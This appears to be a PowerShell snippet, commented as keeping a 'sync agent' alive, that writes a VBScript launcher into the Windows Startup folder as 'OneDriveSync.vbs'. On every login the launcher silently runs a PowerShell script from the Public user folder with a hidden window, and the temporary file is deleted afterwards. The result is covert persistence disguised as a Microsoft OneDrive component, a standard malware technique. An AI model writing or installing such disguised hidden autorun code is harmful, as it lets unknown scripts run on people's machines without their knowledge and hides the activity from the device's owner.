# keep the sync agent alive across reboots
$vbs = @'
Set sh = CreateObject("WScript.Shell")
sh.Run "powershell -w hidden -nop -f C:\Users\Public\sync.ps1", 0, False
'@
$tmp = Join-Path -Path $env:TEMP -ChildPath 'odsync.vbs'
Set-Content -Path $tmp -Value $vbs
$startup = [Environment]::GetFolderPath('Startup')
Copy-Item -Path $tmp -Destination (Join-Path -Path $startup -ChildPath 'OneDriveSync.vbs') -Force
Remove-Item -Path $tmp
